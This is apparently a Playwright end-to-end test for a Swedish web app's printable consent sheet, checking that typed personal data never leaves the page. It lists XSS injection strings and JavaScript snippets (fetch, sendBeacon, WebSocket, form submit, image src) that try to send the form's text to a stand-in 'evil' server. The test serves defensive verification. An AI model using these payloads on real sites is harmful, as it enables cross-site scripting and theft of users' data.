"""In a real browser: a draft from its beginning to printed paper, and every way out of the page that cannot send."""

from __future__ import annotations

import json
import re
import subprocess
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import sync_playwright

from bot.token_buckets import TokenBuckets
from bot.web.conversation import Conversation
from bot.web.drafts.pages import BrowserDrafts
from bot.web.site import SiteOptions, make_site
from storage.crypto.keyring import Keyring
from tests.e2e.canaries import forms, scan
from tests.web.chromium import CHROMIUM, MISSING, Window, served
from tests.web.drafts.conftest import KEY
from tests.web.recording import wire

pytestmark = [pytest.mark.skipif(CHROMIUM is None, reason=MISSING), pytest.mark.slow]

NAME, VILLAGE = "Xqvzlmina Tarrowick", "Vostrapeljka"
SHEET = "Fyll i på sidan som inte kan skicka något (Svenska)"
_ARGUMENTS = [
    "--no-sandbox", "--disable-component-update", "--disable-background-networking", "--disable-sync",
    "--no-first-run", "--disable-default-apps", "--disable-gpu", "--disable-dev-shm-usage",
]  # fmt: skip


@pytest.fixture(scope="module")
def real_site(web_guidance):
    """The site on the machine's own clock: a browser's page comes back within its time."""
    drafts = BrowserDrafts(web_guidance.manual, web_guidance.wording, Keyring(KEY))
    site = make_site(
        Conversation(web_guidance, "sv", drafts), SiteOptions("http://127.0.0.1:9/"), buckets=TokenBuckets(1e9, 1e9)
    )
    with served(site) as root:
        yield urlsplit(root).port


@pytest.fixture(scope="module")
def net_log(tmp_path_factory):
    """Where the browser itself notes all that it does on the network."""
    return tmp_path_factory.mktemp("net") / "log.json"


@pytest.fixture(scope="module")
def browser(net_log):
    arguments = [*_ARGUMENTS, f"--log-net-log={net_log}", "--net-log-capture-mode=Everything"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()


def _walked_to_sheet(window):
    """Begins a draft, is an adult, says yes to every item, and opens the paper to fill in, in a tab of its own."""
    page = window.page
    window.opens("/utkast")
    window.presses("Börja ett nytt utkast")
    window.presses("Svaren")
    window.presses("Personen")
    page.get_by_role("button", name=": Vuxen eller barn").click()
    page.get_by_label("Vuxen", exact=True).check()
    window.presses("Fortsätt")
    window.presses("Översikt")
    window.presses("Samtycke")
    page.get_by_role("button", name="Fortsätt: ").click()
    window.waits_for("Förklarat på ett språk")
    window.presses("Ingen tolk behövdes")
    window.presses("Muntligt")
    while window.title != "Informerat samtycke":
        window.presses("Ja")
    window.presses("Personuppgifter")
    with page.context.expect_page() as opened:
        page.get_by_role("button", name=SHEET).click()
    sheet = opened.value
    sheet.wait_for_load_state("networkidle")
    return sheet


#: What somebody could type or paste into a line; each would load something were it more than text.
TYPED = (
    "<img src={evil}/img>", "<script src={evil}/js></script>", "<meta http-equiv=refresh content='0;url={evil}/meta'>",
    "<form action={evil}/form><button>x</button></form>", "<a href={evil}/link ping={evil}/ping>x</a>",
    "<link rel=prefetch href={evil}/prefetch>", "<style>@import '{evil}/css'</style>", "javascript:fetch('{evil}/url')",
    "\"><svg onload=fetch('{evil}/svg')>", "{evil}/plain",
)  # fmt: skip
#: What an extension, or a fault in the browser, could still try; `add(name, fields)` puts an element on the page.
TRIED = {
    "fetch": "fetch(evil, {method: 'POST', body: text, mode: 'no-cors'}).catch(() => 0)",
    "request": "const r = new XMLHttpRequest(); r.open('POST', evil); r.send(text)",
    "beacon": "navigator.sendBeacon(evil, text)",
    "socket": "new WebSocket(evil.replace('http', 'ws'))",
    "events": "new EventSource(evil)",
    "image": "new Image().src = evil + text",
    "script": "add('script', {src: evil})",
    "inline script": "add('script', {text: `fetch('${evil}')`})",
    "style": "add('style', {textContent: `body { background: url(${evil}) }`})",
    "style sheet": "add('link', {rel: 'stylesheet', href: evil})",
    "prefetch": "add('link', {rel: 'prefetch', href: evil})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: evil})",
    "manifest": "add('link', {rel: 'manifest', href: evil})",
    "icon": "add('link', {rel: 'icon', href: evil})",
    "frame": "add('iframe', {src: evil})",
    "object": "add('object', {data: evil})",
    "media": "add('video', {src: evil})",
    "font": "new FontFace('x', `url(${evil})`).load().catch(() => 0)",
    "worker": "try { new Worker(evil) } catch {}",
    "form": "add('form', {action: evil, method: 'post'}).submit()",
    "base": "add('base', {href: evil}); new Image().src = text",
}
_TRY = """evil => {
  const text = document.querySelector('textarea').value;
  const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
  %s
}"""


def test_every_way_out_of_the_page_that_cannot_send_is_refused(browser, real_site, net_log, tmp_path):
    with wire(real_site) as road, wire() as evil:
        window = Window(browser, f"http://127.0.0.1:{road.port}")
        sheet = _walked_to_sheet(window)
        requests, navigations = [], []
        sheet.on("request", lambda request: requests.append(request.url))
        sheet.on("framenavigated", lambda frame: navigations.append(frame.url))
        before, address = road.brought, f"http://127.0.0.1:{evil.port}"

        lines = sheet.locator("textarea")
        lines.nth(0).click()
        sheet.keyboard.type(NAME)
        for key in ("Enter", "Control+Enter", "Shift+Enter", "Alt+Enter", "Meta+Enter", "Escape", "F1"):
            sheet.keyboard.press(key)
        for number in range(lines.count()):  # the keyboard reaches the lines and nothing else
            sheet.keyboard.press("Tab")
            assert sheet.evaluate("document.activeElement.tagName") in {"TEXTAREA", "BODY"}, number
        lines.nth(1).click()
        for text in TYPED:
            sheet.keyboard.insert_text(text.format(evil=address) + " ")
        sheet.keyboard.press("Enter")
        sheet.get_by_label("Slutmål").fill(VILLAGE)
        for target in ("body", "h1", "textarea >> nth=3"):  # what is chosen is dragged about, and let fall
            lines.nth(1).select_text()
            lines.nth(1).drag_to(sheet.locator(target), force=True)
        sheet.locator("h1").click(button="middle")
        sheet.locator("h1").dblclick()
        assert sheet.locator("a, button, form, script, input, [href]:not(link), [action]").count() == 0
        assert (requests, navigations, evil.connections) == ([], [], 0)

        for script in TRIED.values():
            sheet.evaluate(_TRY % script, f"{address}/tried")
        sheet.emulate_media(media="print")
        paper = tmp_path / "paper.pdf"
        sheet.pdf(path=str(paper), prefer_css_page_size=True)
        assert (
            evil.brought == b""
        )  # a frame and a form open a connection before they are refused, and say nothing on it
        assert road.brought == before
        printed = subprocess.run(["pdftotext", paper, "-"], capture_output=True, text=True, check=True).stdout  # noqa: S603, S607
        assert NAME in re.sub(r"\s+", " ", printed)
        sheet.close()
        window.close()
    wanted = {marker: forms(marker) for marker in (NAME, VILLAGE)}
    browser.close()
    assert not scan(wanted, [("wire", road.brought), ("net log", net_log.read_bytes())]).found
    assert json.loads(net_log.read_text())["events"]
